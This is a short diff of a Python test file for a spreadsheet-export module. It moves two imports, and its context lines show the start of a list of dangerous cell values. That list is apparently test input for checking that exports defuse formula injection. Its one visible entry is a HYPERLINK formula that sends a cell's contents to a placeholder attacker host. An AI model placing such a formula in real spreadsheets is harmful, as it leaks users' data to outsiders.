@@ -10,7 +10,8 @@ import openpyxl
 import pytest
 
 from meute.observatory.exports import export_cell, sheet_name, table_csv, table_xlsx, tables_xlsx
-from meute.observatory.figures import SECRET_NOTE, Membership, Network, Table, compute_figures, figure_tables
+from meute.observatory.figures import Membership, Network, Table, compute_figures
+from meute.observatory.tables import SECRET_NOTE, figure_tables
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A2;"x")',
